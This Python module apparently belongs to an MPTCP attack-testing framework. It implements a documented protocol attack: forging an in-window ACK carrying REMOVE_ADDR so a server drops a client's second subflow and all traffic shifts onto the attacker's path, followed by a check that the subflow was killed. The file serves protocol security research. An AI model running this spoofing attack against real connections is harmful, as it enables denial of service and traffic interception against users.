"""Attack 4a, REMOVE_ADDR injection: close a subflow the attacker cannot even see.

Source: RFC 6181 and draft-bagnulo-mptcp-attacks: REMOVE_ADDR carries no authentication at all (RFC 8684
§3.4.2 relies on the subflow's own integrity), so an attacker on path 1 can make the server drop the client's
other addresses. The attacker forges, on path 1, an in-window ACK from the client carrying REMOVE_ADDR for address
ids 1..8 (the client's extra endpoints; id 0, path 1's own address, is spared). The server closes the path-2
subflow and the whole transfer moves onto path 1, the attacker's path.

Effect measured: the path-2 subflow disappears from the server's `ss`; upload bytes after the attack flow on path 1.
"""

from __future__ import annotations

import time

from mptcrypt.attacks.common import ACK, mptcp_opt, spoof_to_server
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.attacks.teardown import subflow_killed
from mptcrypt.wire.mptcp import MptcpOption

NUMBER = 4
TITLE = "REMOVE_ADDR of path 2, sent on path 1"
SOURCE = "RFC 8684 §3.4.2, §5; RFC 6181; draft-bagnulo-mptcp-attacks"
IDS = tuple(range(1, 9))


def attack(agent) -> dict:
    v = agent.view
    if v.cport is None:
        return {"skipped": "no connection"}
    opt = mptcp_opt(MptcpOption.remove_addr(IDS))
    for _ in range(2):
        agent.spoof(lambda: spoof_to_server(v, ACK, [opt]), None, "REMOVE_ADDR", ids=list(IDS))
        agent.pump(time.time() + 0.2)
    return {}


def judge(ev: Evidence) -> Verdict:
    return subflow_killed(ev, "path2", "REMOVE_ADDR", ("RmAddr", "RmSubflow", "RmAddrDrop"))
